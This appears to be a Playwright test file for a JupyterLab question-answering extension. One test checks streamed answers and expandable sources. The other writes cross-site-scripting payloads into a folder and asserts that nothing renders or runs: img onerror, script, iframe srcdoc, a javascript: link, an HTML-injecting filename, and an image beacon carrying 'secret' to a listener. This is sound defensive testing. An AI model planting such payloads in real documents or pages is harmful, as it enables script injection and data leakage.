"""What a person sees in JupyterLab: an answer that grows, sources that unfold, and nothing hostile come alive."""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path

from playwright.sync_api import Page

from tests.browser.conftest import take_screenshot

SAMPLE = Path(__file__).parents[2] / "notebooks" / "sample"
ANSWER_MILLISECONDS = 400_000
RENDERED = ".jp-OutputArea-output.jp-RenderedMarkdown"

OpenNotebook = Callable[[str, list[str]], Page]


def test_an_answer_by_the_packaged_qwen_streams_in_with_its_sources_under_it(open_notebook: OpenNotebook) -> None:
    page = open_notebook(
        "answer.ipynb",
        [
            "%env LOCALLENS_CHAT_MODEL=qwen2.5-coder-0.5b-instruct\n%load_ext locallens_nb",
            f"%locallens index {SAMPLE} --name station",
            "%locallens ask What does a student pay for a night at the station?",
        ],
    )
    answer = page.locator(RENDERED).last
    page.get_by_text("▍").wait_for(timeout=ANSWER_MILLISECONDS)
    page.get_by_text("Written by qwen2.5-coder-0.5b-instruct").wait_for(timeout=ANSWER_MILLISECONDS)
    assert "60" in answer.inner_text()
    assert "Sources" in answer.inner_text()
    first = answer.locator("details").first
    assert "handbook/station-handbook.md:" in first.locator("summary").inner_text()
    assert not first.locator("pre").is_visible()
    first.locator("summary").click()
    assert first.locator("pre").is_visible()
    assert "BRL 60" in first.locator("pre").inner_text()
    assert page.get_by_text("▍").count() == 0
    answer.scroll_into_view_if_needed()
    take_screenshot(page, "answer")


def test_nothing_in_a_hostile_folder_comes_alive(
    open_notebook: OpenNotebook, tmp_path: Path, listener: tuple[str, list[str]]
) -> None:
    address, asked = listener
    folder = tmp_path / "hostile"
    folder.mkdir()
    hostile = (
        f"The budget for 2031 is 48,000 euros <img src={address}/a.png onerror='window.pwned=1'>"
        f" ![beacon]({address}/p.png?q=secret) <script>window.pwned=2</script> [click](javascript:window.pwned=3)"
        " <iframe srcdoc='<script>parent.pwned=4</script>'></iframe> in all."
    )
    (folder / "a.md").write_text(f"# Budget\n\n{hostile}\n", encoding="utf-8")
    (folder / "<img src=x onerror=pwned=5>.md").write_text("The goat of the station sleeps.", encoding="utf-8")
    (folder / "price.md").write_text("A ticket for the ferry costs $5 and later $10.", encoding="utf-8")
    page = open_notebook(
        "hostile.ipynb",
        [
            "%env LOCALLENS_CHAT_MODEL=quotes\n%load_ext locallens_nb",
            f"%locallens index {folder} --name hostile",
            "%locallens ask How many euros is the budget for 2031?",
            "%locallens ask What does a ticket for the ferry cost?",
            "%locallens search budget for 2031",
        ],
    )
    outputs = page.locator(RENDERED)
    page.get_by_text("similarity", exact=True).wait_for(timeout=ANSWER_MILLISECONDS)
    for details in page.locator("details").all():
        details.locator("summary").first.click()
    assert "48,000 euros <img src=" in outputs.nth(1).locator("ul").inner_text()
    assert "costs $5 and later $10" in outputs.nth(2).locator("ul").inner_text()
    assert "<img src=x onerror=pwned=5>.md:1" in outputs.nth(1).inner_text()
    outputs.nth(1).get_by_text("click", exact=True).click()
    assert page.locator(f"{RENDERED} img, {RENDERED} iframe, {RENDERED} script, {RENDERED} mjx-container").count() == 0
    assert page.evaluate("() => window.pwned") is None
    assert asked == []
    take_screenshot(page, "hostile")
